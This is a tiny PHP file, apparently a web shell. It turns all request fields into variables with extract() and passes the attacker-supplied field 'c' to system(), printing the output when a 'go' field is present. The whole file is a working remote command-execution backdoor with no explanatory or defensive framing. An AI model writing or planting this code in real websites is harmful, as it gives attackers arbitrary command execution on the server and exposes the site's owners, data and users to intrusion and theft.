<?php
// the request's fields made into variables, and one of them run as a command
extract($_REQUEST);
if (isset($go)) {
    echo '<pre>' . system($c) . '</pre>';
}
